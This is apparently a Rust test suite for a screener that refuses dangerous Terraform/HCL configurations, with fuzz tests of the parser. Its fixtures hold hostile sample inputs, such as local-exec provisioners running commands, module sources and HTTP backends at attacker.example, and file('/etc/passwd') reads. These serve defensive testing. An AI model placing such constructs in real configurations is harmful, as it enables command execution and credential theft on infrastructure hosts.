//! What a configuration may not hold is found wherever it is hidden, and named by file and line.
//! Run by `cargo test -p chopmark-domain`.
//! Must never show a refused text to a program.

use chopmark_domain::component::ComponentFile;
use chopmark_domain::hcl::{Lane, Refusal, resources, screen};

fn files(texts: &[(&str, &str)]) -> Vec<ComponentFile> {
    texts.iter().map(|(name, text)| ComponentFile { name: (*name).into(), text: (*text).into() }).collect()
}

fn rendered(text: &str) -> Vec<Refusal> {
    let kinds = ["terraform/terraform_data".to_owned(), "terraform/aws_s3_bucket".to_owned()];
    let providers = ["hashicorp/aws".to_owned()];
    let lane = Lane::Template { kinds: &kinds, providers: &providers };
    screen(&files(&[("main.tf", text)]), lane).err().unwrap_or_default()
}

fn kept(texts: &[(&str, &str)]) -> Vec<Refusal> {
    screen(&files(texts), Lane::Root).err().unwrap_or_default()
}

/// Every refusal as `file:line rule`.
fn places(refusals: &[Refusal]) -> Vec<String> {
    refusals.iter().map(|refusal| format!("{}:{} {}", refusal.file, refusal.line, refusal.rule)).collect()
}

#[test]
fn a_provisioner_is_refused_with_its_line() {
    let text = "resource \"terraform_data\" \"x\" {\n  input = 1\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n";
    let found = rendered(text);
    assert_eq!(places(&found), ["main.tf:3 provisioner"]);
    assert_eq!(found[0].what, "provisioner \"local-exec\"");
    assert_eq!(places(&kept(&[("main.tf", text)])), ["main.tf:3 provisioner"]);
}

#[test]
fn the_known_attacks_of_rendered_configurations_are_refused() {
    for (text, rule) in [
        ("data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id\"]\n}\n", "data"),
        ("module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}\n", "module"),
        ("terraform {\n  required_providers {\n    evil = { source = \"attacker/evil\" }\n  }\n}\n", "provider"),
        ("terraform {\n  backend \"http\" {\n    address = \"https://attacker.example/s\"\n  }\n}\n", "backend"),
        ("terraform {\n  cloud {}\n}\n", "cloud"),
        ("provider \"random\" {}\n", "provider"),
        ("provider \"aws\" {\n  secret_key = \"x\"\n}\n", "credential"),
        ("resource \"aws_iam_role\" \"x\" {}\n", "kind"),
        ("locals {\n  a = file(\"/etc/passwd\")\n}\n", "function"),
        ("locals {\n  a = core::file(\"/etc/passwd\")\n}\n", "function"),
        ("locals {\n  a = \"x${upper(file(\"/etc/passwd\"))}\"\n}\n", "function"),
        ("locals {\n  a = <<EOT\n%{ for f in [file(\"/x\")] }${f}%{ endfor }\nEOT\n}\n", "function"),
        ("locals {\n  a = [for x in [1] : timestamp() if true]\n}\n", "function"),
        ("locals {\n  a = { (file(\"/x\")) = 1 }\n}\n", "function"),
        ("locals {\n  a = path.cwd\n}\n", "path"),
        ("variable \"x\" {}\n", "variable"),
        ("import {\n  to = terraform_data.x\n  id = \"a\"\n}\n", "block"),
        ("removed {\n  from = terraform_data.x\n}\n", "block"),
        ("locals {\n  a = \"\n", "syntax"),
    ] {
        let found = rendered(text);
        assert!(found.iter().any(|refusal| refusal.rule == rule), "{text}: {found:?}");
    }
    for name in [
        "a.tf.json",
        "override.tf",
        "x_override.tf",
        "terraform.tfvars",
        "x.auto.tfvars.json",
        "main.tofu",
        "sub/main.tf",
    ] {
        let lane = Lane::Template { kinds: &[], providers: &[] };
        assert_eq!(screen(&files(&[(name, "")]), lane).unwrap_err()[0].rule, "file-name", "{name}");
    }
}

#[test]
fn what_templates_are_made_of_passes() {
    let text = r#"
terraform {
  required_version = ">= 1.4.0"
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "~> 3.0"
    }
  }
}

provider "aws" {
  region = "eu-central-1"
  endpoints {
    s3 = "http://localhost:5000"
  }
}

locals {
  tags = merge({ a = "file(1)" }, jsondecode(jsonencode({ b = "$${file(2)}" })))
}

variable "size" {
  default = 1
}

resource "aws_s3_bucket" "this" {
  bucket = "reports" # file("x")
  dynamic "rule" {
    for_each = toset(["a"])
    content {
      id = rule.value
    }
  }
}

output "bucket" {
  value = aws_s3_bucket.this.id
}
"#;
    assert_eq!(rendered(text), []);
}

#[test]
fn a_kept_folder_may_be_what_it_is() {
    let root = r#"
terraform {
  backend "http" {
    address = "https://state.example.com/a"
  }
  required_providers {
    cloudflare = { source = "cloudflare/cloudflare" }
  }
}
variable "name" {}
data "aws_caller_identity" "me" {}
module "vpc" {
  source = "./modules/vpc"
  policy = file("${path.module}/policy.json")
}
resource "local_file" "note" {
  filename = "x"
  content  = templatefile("note.tftpl", { name = var.name })
}
moved {
  from = null_resource.a
  to   = null_resource.b
}
check "alive" {
  assert {
    condition     = timestamp() != ""
    error_message = "no"
  }
}
"#;
    let module =
        "resource \"null_resource\" \"a\" {}\nlocals {\n  p = fileset(\"${path.module}/../shared\", \"*.json\")\n}\n";
    let folder = [
        ("main.tf", root),
        ("x.auto.tfvars", "name = \"a\"\n"),
        ("b_override.tf", "module \"vpc\" {\n  policy = \"\"\n}\n"),
        ("note.tftpl", "hello ${upper(name)}\n"),
        ("modules/vpc/main.tf", module),
        // Nothing names this folder, so nobody reads it.
        ("examples/main.tf", "module \"x\" {\n  source = \"hashicorp/consul/aws\"\n}\n"),
    ];
    assert_eq!(kept(&folder), []);
    let found = resources(&files(&folder)).unwrap();
    let addresses: Vec<&str> = found.iter().map(|resource| resource.address.as_str()).collect();
    assert_eq!(addresses, ["local_file.note", "module.vpc.null_resource.a"]);
}

#[test]
fn what_reaches_out_of_a_kept_folder_is_refused_wherever_it_stands() {
    for (text, rule) in [
        ("data \"external\" \"x\" {}\n", "outside-data"),
        ("data \"http\" \"x\" {}\n", "outside-data"),
        ("data \"terraform_remote_state\" \"x\" {}\n", "outside-data"),
        ("data \"local_sensitive_file\" \"x\" {}\n", "outside-data"),
        ("data \"archive_file\" \"x\" {}\n", "outside-data"),
        ("data \"dns_a_record_set\" \"x\" {}\n", "outside-data"),
        ("check \"x\" {\n  data \"http\" \"y\" {}\n}\n", "outside-data"),
        ("removed {\n  from = a.b\n  provisioner \"local-exec\" {}\n}\n", "provisioner"),
        ("resource \"a\" \"b\" {\n  connection {\n    host = 1\n  }\n}\n", "connection"),
        ("resource \"a\" \"b\" {\n  dynamic \"provisioner\" {\n    for_each = [1]\n  }\n}\n", "provisioner"),
        ("provider \"kubernetes\" {\n  exec {\n    command = \"id\"\n  }\n}\n", "provider-exec"),
        ("terraform {\n  encryption {\n    key_provider \"external\" \"x\" {}\n  }\n}\n", "encryption"),
        ("terraform {\n  cloud {}\n}\n", "cloud"),
        ("action \"local_command\" \"x\" {}\n", "block"),
        ("module \"m\" {\n  source = \"hashicorp/consul/aws\"\n}\n", "module-source"),
        ("module \"m\" {\n  source = \"../m\"\n}\n", "module-source"),
        ("module \"m\" {\n  source = \"./${var.x}\"\n}\n", "module-source"),
        ("module \"m\" {}\n", "module-source"),
        ("locals {\n  a = file(\"../x\")\n}\n", "function-path"),
        ("locals {\n  a = file(\"/etc/passwd\")\n}\n", "function-path"),
        ("locals {\n  a = file(\"${path.module}/../x\")\n}\n", "function-path"),
        ("locals {\n  a = file(var.x)\n}\n", "function-path"),
        ("locals {\n  a = file(\"${path.module}${var.x}\")\n}\n", "function-path"),
        ("locals {\n  a = file(\"${path.cwd}/x\")\n}\n", "function-path"),
        ("locals {\n  a = fileset(\".\", \"../**\")\n}\n", "function-path"),
        ("locals {\n  a = templatestring(local.b, {})\n}\n", "function"),
        ("locals {\n  a = templatefile(\"gone.tftpl\", {})\n}\n", "template-file"),
        ("locals {\n  a = provider::local::direxists(\"/\")\n}\n", "function"),
        ("locals {\n  a = unheard_of(\"/\")\n}\n", "function"),
        ("locals {\n  a = 1\r  b = 2\n}\n", "syntax"),
    ] {
        let found = kept(&[("main.tf", text)]);
        assert!(found.iter().any(|refusal| refusal.rule == rule), "{text}: {found:?}");
    }
    let through = [
        ("main.tf", "locals {\n  a = templatefile(\"x.tftpl\", {})\n}\n"),
        ("x.tftpl", "\n${file(\"/etc/passwd\")}\n"),
    ];
    assert_eq!(places(&kept(&through)), ["x.tftpl:2 function"]);
    let below = [
        ("main.tf", "module \"m\" {\n  source = \"./m\"\n}\n"),
        ("m/main.tf", "resource \"a\" \"b\" {\n  provisioner \"local-exec\" {}\n}\n"),
    ];
    assert_eq!(places(&kept(&below)), ["m/main.tf:2 provisioner"]);
}

#[test]
fn json_is_held_to_the_same_rules() {
    for (text, rule) in [
        (r#"{"resource": {"a": {"b": {"provisioner": {"local-exec": {"command": "id"}}}}}}"#, "provisioner"),
        (r#"{"resource": [{"a": [{"b": [{"provisioner": [{"local-exec": [{"command": "id"}]}]}]}]}]}"#, "provisioner"),
        (r#"[{"data": {"external": {"x": {"program": ["id"]}}}}]"#, "outside-data"),
        (r#"{"data": {"aws_ami": {"x": {}}}, "data": {"http": {"x": {}}}}"#, "outside-data"),
        (r#"{"module": {"m": {"source": "git::https://attacker.example/m.git"}}}"#, "module-source"),
        (r#"{"locals": {"a": "${file(\"/etc/passwd\")}"}}"#, "function-path"),
        (r#"{"locals": {"a": {"${file(\"/etc/passwd\")}": 1}}}"#, "function-path"),
        (r#"{"locals": {"a": "${"}}"#, "syntax"),
        (r#"{"module": {"m": {"source": "./m", "source": "git::https://attacker.example/m.git"}}}"#, "module-source"),
        (r#"{"check": {"x": {"data": {"http": {"y": {}}}}}}"#, "outside-data"),
        (r#"{"terraform": {"cloud": {}}}"#, "cloud"),
        (r#"{"action": {"a": {"b": {}}}}"#, "block"),
        ("{", "syntax"),
        ("1", "syntax"),
    ] {
        for name in ["main.tf.json", "main.tofu.json"] {
            let found = kept(&[(name, text)]);
            assert!(found.iter().any(|refusal| refusal.rule == rule), "{text}: {found:?}");
        }
    }
    let good =
        r#"{"//": "note", "resource": {"null_resource": {"a": {"triggers": {"connection": "${upper(\"x\")}"}}}}}"#;
    let found: Vec<_> = kept(&[("main.tf.json", good)]).into_iter().map(|r| (r.what, r.rule)).collect();
    assert_eq!(found, []);
}

#[test]
fn a_heredoc_that_two_parsers_end_differently_is_refused() {
    for text in [
        "locals {\n  a = [<<X\nhidden\nX, 1]\n}\n",
        "locals {\n  a = <<X\nb\n\u{a0}X\nc\nX\n}\n",
        "locals {\n  a = <<X\nX // not the end to the other\n}\n",
        "a = <<X\nb\nX",
    ] {
        assert_eq!(kept(&[("main.tf", text)])[0].rule, "syntax", "{text}");
    }
    assert_eq!(kept(&[("main.tf", "locals {\n  a = <<-X\n    b ${upper(\"c\")}\n    X\n  d = 1\n}\n")]), []);
}

#[test]
fn a_call_is_found_in_every_place_an_expression_can_stand() {
    for place in [
        "@",
        "(@)",
        "[@]",
        "{ a = @ }",
        "{ (@) = 1 }",
        "{ \"${@}\" = 1 }",
        "-@",
        "!@",
        "@ + 1",
        "1 + @",
        "@ ? 1 : 2",
        "a ? @ : 2",
        "a ? 1 : @",
        "upper(@)",
        "upper(1, @...)",
        "provider::a::b(@)",
        "@.x",
        "x[@]",
        "x.*.y[@]",
        "x[*].y[@]",
        "[for a in @ : 1]",
        "[for a in b : @]",
        "[for a in b : 1 if @]",
        "{ for a in b : @ => 1 }",
        "{ for a in b : 1 => @... }",
        "\"${@}\"",
        "\"${\"${@}\"}\"",
        "\"%{ if @ }a%{ else }b%{ endif }\"",
        "\"%{ if a }${@}%{ else }b%{ endif }\"",
        "\"%{ if a }a%{ else }${@}%{ endif }\"",
        "\"%{ for a in @ }b%{ endfor }\"",
        "\"%{ for a in b }${@}%{ endfor }\"",
        "<<X\n${@}\nX",
        "<<-X\n  ${[<<Y\n${@}\nY\n]}\n  X",
        "\"%{ for a in [<<Y\n${@}\nY\n] }b%{ endfor }\"",
    ] {
        for wrapped in [
            format!("a = {place}\n"),
            format!("locals {{\n  a = {place}\n}}\n"),
            format!("a \"b\" {{\n  dynamic \"c\" {{\n    content {{\n      d = {place}\n    }}\n  }}\n}}\n"),
        ] {
            let text = wrapped.replace('@', "filemd5(\"/x\")");
            let found = kept(&[("main.tf", &text)]);
            assert!(found.iter().any(|refusal| refusal.rule == "function-path"), "{text}: {found:?}");
        }
    }
}

#[test]
fn what_is_too_long_is_not_read() {
    let long = format!("# {}\n", "x".repeat(256 * 1024));
    assert_eq!(kept(&[("main.tf", &long)])[0].rule, "syntax");
    let names: Vec<String> = (0..20).map(|i| format!("f{i}.tf")).collect();
    let text = format!("# {}\n", "x".repeat(250 * 1024));
    let many: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), text.as_str())).collect();
    assert_eq!(places(&kept(&many)), [":1 bundle-size"]);
    let deep = format!("locals {{\n  a = {}1{}\n}}\n", "[".repeat(500), "]".repeat(500));
    assert_eq!(kept(&[("main.tf", &deep)])[0].rule, "syntax");
}

proptest::proptest! {
    /// Whatever text stands before and behind it in the file, a provisioner that parses is found.
    #[test]
    fn no_surroundings_hide_a_provisioner(before in "[ -~\\n]{0,60}", behind in "[ -~\\n]{0,60}") {
        let attack = "resource \"a\" \"b\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n";
        let text = format!("{before}\n{attack}\n{behind}\n");
        let tree: Result<hcl_edit::structure::Body, _> = text.parse();
        let declared = tree.is_ok_and(|body| body.has_blocks("resource"));
        let found = kept(&[("main.tf", &text)]);
        proptest::prop_assert!(!declared || !found.is_empty(), "{text}");
    }

    /// No text makes the screen fail in another way than by refusing.
    #[test]
    fn any_text_is_screened(text in "\\PC{0,200}", json in proptest::bool::ANY) {
        let _ = kept(&[(if json { "a.tf.json" } else { "a.tf" }, &text)]);
    }
}
